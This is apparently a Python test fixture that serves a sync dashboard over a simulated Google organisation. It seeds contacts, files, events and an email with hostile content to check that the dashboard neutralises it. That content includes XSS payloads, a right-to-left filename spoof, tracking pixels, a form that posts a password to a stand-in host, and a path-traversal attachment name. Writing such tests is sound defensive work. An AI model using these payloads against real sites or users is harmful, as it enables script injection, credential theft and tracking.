"""A dashboard to click on: a simulated organisation, mirrored, behind the real web application on loopback.

Public: Site, serve_site.
"""

import asyncio
import json
import socket
import threading
from collections.abc import Awaitable, Callable, Iterator
from contextlib import ExitStack, contextmanager, suppress
from pathlib import Path
from typing import Any, TypeVar

import uvicorn
from syncd_simulator import Editor, GoogleWorld, google_app
from syncd_simulator import serve as serve_world

from syncd.control.control import Control
from syncd.daemon import assembled
from syncd.sdk import SystemClock
from syncd.web.access import Access
from syncd.web.app import create_app

T = TypeVar("T")
TOKEN = "the-token-of-the-dashboard-tests"
HOSTILE_NAME = '<script>document.title="owned"</script><img src=x onerror=alert(1)> \u202egnp.exe'
HOSTILE_MAIL = b"""\
From: "Mallory <b>" <mallory@evil.example>
To: ada@acme.example
Subject: =?utf-8?q?Win_=3Cscript=3Ealert=281=29=3C/script=3E_now?=
Date: Sat, 21 Nov 2026 10:00:00 +0000
Message-ID: <hostile@evil.example>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary=outer

--outer
Content-Type: multipart/related; boundary=inner

--inner
Content-Type: text/html; charset=utf-8

<html><head><title>Win</title><meta http-equiv="refresh" content="0;url=http://tracker.invalid/refresh">
<base href="http://tracker.invalid/"><link rel="stylesheet" href="http://tracker.invalid/style.css">
<style>@import url(http://tracker.invalid/import.css); body {background: url(http://tracker.invalid/bg.png)}</style></head>
<body onload="top.document.title='owned'" background="http://tracker.invalid/body.png">
<p>Dear <b>Ada</b>, you have won.</p><img src="http://tracker.invalid/pixel.png" alt="a prize">
<img src="cid:dot@evil.example" alt="a dot"><script>top.location = "http://tracker.invalid/script"</script>
<form action="http://tracker.invalid/form" method="post"><input name="password"><button>Claim</button></form>
<iframe src="http://tracker.invalid/frame"></iframe><svg onload="alert(1)"><a xlink:href="javascript:alert(1)">x</a></svg>
<p style="position:fixed;background:url(http://tracker.invalid/style.png)">Fixed</p>
<a href="http://tracker.invalid/click" ping="http://tracker.invalid/ping">Claim your prize</a></body></html>
--inner
Content-Type: image/png
Content-ID: <dot@evil.example>
Content-Transfer-Encoding: base64

iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==
--inner--
--outer
Content-Type: application/pdf
Content-Disposition: attachment; filename="../../etc/<b>prize</b>.pdf"
Content-Transfer-Encoding: base64

JVBERi0xLjQK
--outer--
"""


class Site:
    """The dashboard at `url`, its `control`, and the `world` that it mirrors. `do` runs a coroutine in its loop."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder
        self.state, self.config = folder / "state", folder / "config"
        self.config.mkdir(parents=True)
        self.world = GoogleWorld(7)
        self.editor = Editor(self.world, 7)
        self.ada = self.world.add_user("Ada", "Lovelace", admin=True)
        self.grace = self.world.add_user("Grace", "Hopper")
        self.url = ""
        self.control: Control
        self._loop = asyncio.new_event_loop()
        self._ended = asyncio.Event()
        self._fill()

    def _fill(self) -> None:
        with self.world.lock:
            for user in (self.ada, self.grace):
                for _ in range(14):
                    self.editor.add_contact(user)
                    self.editor.add_event(user)
                    self.editor.add_mail(user)
                    self.editor.add_file(user)
            self.editor.add_contact(self.ada, names=[{"givenName": HOSTILE_NAME}])
            self.editor.add_file(self.ada, name=HOSTILE_NAME, content=b"harmless")
            self.editor.add_event(self.ada, summary=HOSTILE_NAME)
            self.hostile_mail = self.editor.add_mail(self.ada, raw=HOSTILE_MAIL.replace(b"\n", b"\r\n"))

    def write(self, url: str) -> None:
        """The configuration: four syncs of one organisation, one stream each, and one with nobody in it."""
        (self.folder / "key.json").write_text(json.dumps(self.world.key_file(f"{url}/token")))
        connection = {
            "connector": "google",
            "settings": {
                "service_account": f"${{file:{self.folder / 'key.json'}}}",
                "admin": self.ada.address,
                "endpoints": self.world.endpoints(url),
            },
        }
        streams: dict[str, Any] = {"contacts": {}, "calendar": {"calendars": "all"}, "files": {}, "mail": {}}
        syncs = {
            f"acme-{name}": {"connection": "acme", "streams": {name: options}, "schedule": {"every": "1h"}}
            for name, options in streams.items()
        }
        document = {
            "version": 1,
            "daemon": {"token": f"${{file:{self.folder / 'token'}}}"},
            "connections": {"acme": connection},
            "syncs": syncs,
        }
        (self.folder / "token").write_text(TOKEN)
        (self.config / "acme.yaml").write_text(json.dumps(document, indent=1))

    def do(self, job: Awaitable[T]) -> T:
        async def wait() -> T:
            return await job

        return asyncio.run_coroutine_threadsafe(wait(), self._loop).result(60)

    def sync(self, name: str) -> dict[str, Any]:
        """Run a sync to its end; its report."""

        async def run() -> dict[str, Any]:
            events = [event async for event in self.control.sync(name)]
            report: dict[str, Any] = events[-1]["report"]
            return report

        return self.do(run())

    def card(self, name: str) -> dict[str, Any]:
        status = self.do(self.control.status())
        return next(one for one in status["syncs"] if one["name"] == name)

    def reload(self) -> None:
        self.do(self.control.reload())

    # -- the loop's thread

    def live(self, ready: Callable[[], None]) -> None:
        """Serve until `end`."""
        self._loop.run_until_complete(self._serve(ready))
        self._loop.close()

    def end(self) -> None:
        self._loop.call_soon_threadsafe(self._ended.set)

    async def _serve(self, ready: Callable[[], None]) -> None:
        facts: dict[str, object] = {"running": True, "pid": 1, "version": "test"}
        async with assembled(self.config, self.state, daemon=facts) as control:
            self.control = control
            access = Access(self.state, lambda: control.parts.config.daemon, SystemClock())
            app = create_app(control, self._ended, "0.1.0", access)
            bound = socket.create_server(("127.0.0.1", 0))
            self.url = f"http://127.0.0.1:{bound.getsockname()[1]}"
            server = uvicorn.Server(uvicorn.Config(app, log_config=None, lifespan="off", timeout_graceful_shutdown=2))
            server.install_signal_handlers = lambda: None  # type: ignore[attr-defined]
            task = asyncio.create_task(server.serve(sockets=[bound]))
            chore = asyncio.create_task(self._index())
            ready()
            await self._ended.wait()
            chore.cancel()
            server.should_exit = True
            with suppress(asyncio.CancelledError):
                await task

    async def _index(self) -> None:
        while True:
            await self.control.browse.index_search()
            await asyncio.sleep(0.05)


@contextmanager
def serve_site(folder: Path) -> Iterator[Site]:
    """Mirror the organisation once, then be there."""
    site, ready = Site(folder), threading.Event()
    with ExitStack() as stack:
        site.write(stack.enter_context(serve_world(google_app(site.world))).url)
        thread = threading.Thread(target=site.live, args=[ready.set], name="site")
        thread.start()
        stack.callback(thread.join)
        stack.callback(site.end)
        assert ready.wait(60)
        site.do(site.control.import_accounts("acme"))
        for name in ("contacts", "calendar", "files", "mail"):
            assert site.sync(f"acme-{name}")["status"] == "completed"
        yield site
